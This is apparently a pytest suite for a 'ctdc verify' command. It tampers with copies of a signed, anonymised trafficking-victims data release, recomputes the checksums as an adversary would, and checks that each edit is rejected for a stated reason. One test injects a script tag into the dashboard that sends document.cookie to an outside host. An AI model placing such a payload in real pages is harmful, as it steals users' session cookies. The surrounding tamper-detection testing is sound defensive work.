"""`ctdc verify` against an adversary who edits a published release and covers it up.

Each case edits a copy of the session pipeline's release the way an adversary would:
the change itself, then every checksum in `manifest.json` recomputed (and the manifest's
counts restated where the change needs it), so the files match their own manifest.
`ctdc verify` must exit 1 with a reason naming what is wrong. What each case is caught
by (one or more reasons; the first listed is the one the test requires):

| tampering | caught by |
|---|---|
| sensitive attributes shuffled between records | signed checksums only (k, values unchanged) |
| Male and Female swapped | signed checksums only |
| a data source removed, counts restated | signed checksums; statistics total vs manifest count |
| a name with a count of 1 in a statistics table | statistics audit (count below threshold) |
| `<script>` added to the dashboard | signed checksum of dashboard.html |
| `victim_name` added to the Parquet file only | Parquet columns; Parquet vs CSV records |
| a statistics table deleted | statistics: listed table missing; signed file missing |
| every row duplicated, counts restated | statistics total vs manifest count; signed checksums |
| a codebook label changed | codebook against the standard |
| a codebook frequency changed | codebook against the CSV's counts |
| re-signed with another key, its public key published | public key not pinned |
| re-signed with another key, public key left as it was | signature does not verify |
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import polars as pl
import pytest

from ctdc_assets.cli import main
from ctdc_assets.landing import sha256_file

NAME = "Maria Lopez"  # what an adversary (or a careless editor) slips into a table


def _release(pipeline) -> Path:
    _, outcome = pipeline
    assert outcome.success and outcome.release, outcome.summary()
    return Path(outcome.release)


def _records(folder: Path, change: Callable[[pl.DataFrame], pl.DataFrame]) -> None:
    """The same change to the CSV and the Parquet file (a careful adversary)."""
    records = change(pl.read_parquet(folder / "victims.parquet"))
    records.write_parquet(folder / "victims.parquet")
    records.write_csv(folder / "victims.csv")


def _manifest(folder: Path) -> dict:
    return json.loads((folder / "manifest.json").read_text())


def _restate(folder: Path, counts: dict | None = None) -> None:
    """Recompute every checksum of the manifest (and restate counts), as an adversary would."""
    manifest = _manifest(folder)
    manifest["files"] = {
        str(p.relative_to(folder)): sha256_file(p)
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.name not in {"manifest.json", "manifest.sig"}
    }
    manifest["counts"] |= counts or {}
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2))


def shuffle_sensitive(folder: Path) -> None:
    sensitive = _manifest(folder)["policy"]["sensitive_attributes"]

    def change(records: pl.DataFrame) -> pl.DataFrame:
        moved = records.select(sensitive).sample(fraction=1.0, shuffle=True, seed=3)
        return records.with_columns(moved)

    _records(folder, change)
    _restate(folder)


def swap_gender(folder: Path) -> None:
    swapped = {"Male": "Female", "Female": "Male"}
    _records(folder, lambda r: r.with_columns(pl.col("gender").replace(swapped)))
    _restate(folder)


def remove_data_source(folder: Path) -> None:
    source = "Hotline"
    records = pl.read_parquet(folder / "victims.parquet")
    removed = records.filter(pl.col("Datasource") == source).height
    assert removed > 0
    _records(folder, lambda r: r.filter(pl.col("Datasource") != source))
    counts = _manifest(folder)["counts"]
    _restate(
        folder,
        {
            "records_before_anonymization": counts["records_before_anonymization"] - removed,
            "records_published": counts["records_published"] - removed,
        },
    )


def name_in_statistics(folder: Path) -> None:
    path = folder / "statistics" / "victims_by_citizenship.csv"
    table = pl.read_csv(path, infer_schema=False)
    row = table.filter(pl.col("citizenship") != "All").head(1)
    row = row.with_columns(
        citizenship=pl.lit(NAME), count=pl.lit("1"), share=pl.lit(None, pl.String)
    )
    pl.concat([table, row]).write_csv(path)
    _restate(folder)


def script_in_dashboard(folder: Path) -> None:
    path = folder / "dashboard.html"
    page = path.read_text(encoding="utf-8")
    script = "<script>fetch('https://example.org/?'+document.cookie)</script>"
    path.write_text(page.replace("</body>", script + "</body>"), encoding="utf-8")
    _restate(folder)


def name_column_in_parquet(folder: Path) -> None:
    records = pl.read_parquet(folder / "victims.parquet")
    records.with_columns(victim_name=pl.lit(NAME)).write_parquet(folder / "victims.parquet")
    _restate(folder)


def delete_statistics_table(folder: Path) -> None:
    (folder / "statistics" / "recruiter_relationship.csv").unlink()
    _restate(folder)


def duplicate_rows(folder: Path) -> None:
    _records(folder, lambda r: pl.concat([r, r]))
    counts = _manifest(folder)["counts"]
    _restate(folder, {name: 2 * value for name, value in counts.items()})


def change_codebook_label(folder: Path) -> None:
    path = folder / "codebook.md"
    text = path.read_text(encoding="utf-8")
    assert "| `Female` | Female |" in text
    path.write_text(text.replace("| `Female` | Female |", "| `Female` | Male |"), encoding="utf-8")
    _restate(folder)


def change_codebook_frequency(folder: Path) -> None:
    """A count of the codebook no longer what the CSV holds (a typo, or a hidden edit)."""
    path = folder / "codebook.md"
    lines = path.read_text(encoding="utf-8").splitlines()
    row = next(i for i, line in enumerate(lines) if line.startswith("| `Female` | Female | "))
    code, label, records, share = lines[row].strip("| ").split(" | ")
    lines[row] = f"| {code} | {label} | {int(records) + 1} | {share} |"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    _restate(folder)


def resign_with_another_key(folder: Path, *, publish_key: bool = True) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from ctdc_assets.release.signing import PUBLIC_KEY, public_key_pem, sign_release

    swap_gender(folder)
    other = Ed25519PrivateKey.generate()
    if publish_key:
        (folder / PUBLIC_KEY).write_bytes(public_key_pem(other.public_key()))
        _restate(folder)
    sign_release(folder, other)


@dataclass(frozen=True)
class Case:
    name: str
    tamper: Callable[[Path], None]
    reason: str  # must appear among the reasons `ctdc verify` prints (with the counts)

    def expected(self, folder: Path) -> str:
        counts = _manifest(folder)["counts"]
        return self.reason.format(**counts)


CASES = [
    Case(
        "sensitive attributes shuffled",
        shuffle_sensitive,
        "victims.csv: content differs from its signed checksum",
    ),
    Case(
        "Male and Female swapped", swap_gender, "victims.parquet: content differs from its signed"
    ),
    Case(
        "data source removed, counts restated",
        remove_data_source,
        "the manifest counts {records_before_anonymization} records before anonymization",
    ),
    Case(
        "a name with a count of 1 in statistics",
        name_in_statistics,
        "victims_by_citizenship: published count below the threshold 11",
    ),
    Case(
        "<script> in the dashboard",
        script_in_dashboard,
        "dashboard.html: content differs from its signed checksum",
    ),
    Case(
        "victim_name added to the Parquet file only",
        name_column_in_parquet,
        "victims.parquet: columns not in the standard: victim_name",
    ),
    Case(
        "a statistics table deleted",
        delete_statistics_table,
        "statistics/recruiter_relationship.csv: signed but missing",
    ),
    Case(
        "every row duplicated, counts restated",
        duplicate_rows,
        "the manifest counts {records_before_anonymization} records before anonymization",
    ),
    Case(
        "a codebook label changed",
        change_codebook_label,
        "codebook.md: gender: the label of `Female` is not the standard's",
    ),
    Case(
        "a codebook frequency changed",
        change_codebook_frequency,
        "codebook.md: gender: `Female` is said to hold",
    ),
    Case(
        "re-signed with another key, its public key published",
        resign_with_another_key,
        "release_signing.pub: key",
    ),
    Case(
        "re-signed with another key, public key left as it was",
        lambda folder: resign_with_another_key(folder, publish_key=False),
        "manifest.sig: the signature does not verify with the pinned public key",
    ),
]


def _verify(folder: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["verify", str(folder), *extra])
    return code, capsys.readouterr().out


def test_the_published_release_verifies_with_the_pinned_key(pipeline, capsys) -> None:
    code, out = _verify(_release(pipeline), capsys)
    assert code == 0, out
    assert "signature" in out


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_ctdc_verify_rejects_tampering(pipeline, tmp_path: Path, capsys, case: Case) -> None:
    copy = tmp_path / "release"
    shutil.copytree(_release(pipeline), copy)
    case.tamper(copy)
    code, out = _verify(copy, capsys)
    assert code == 1, f"{case.name}: accepted\n{out}"
    assert case.expected(copy) in out, (
        f"{case.name}: rejected, but not for the expected reason\n{out}"
    )


def test_a_release_fails_against_another_pinned_key(pipeline, tmp_path: Path, capsys) -> None:
    """Pinning: the same untouched release fails when the verifier pins another key."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from ctdc_assets.release.signing import PUBLIC_KEY, public_key_pem

    release = _release(pipeline)
    other = tmp_path / "other.pub"
    other.write_bytes(public_key_pem(Ed25519PrivateKey.generate().public_key()))
    code, out = _verify(release, capsys, "--public-key", str(other))
    assert code == 1 and "not a pinned key" in out, out
    code, out = _verify(release, capsys, "--public-key", str(release / PUBLIC_KEY))
    assert code == 0, out  # the published key, when it is the one pinned
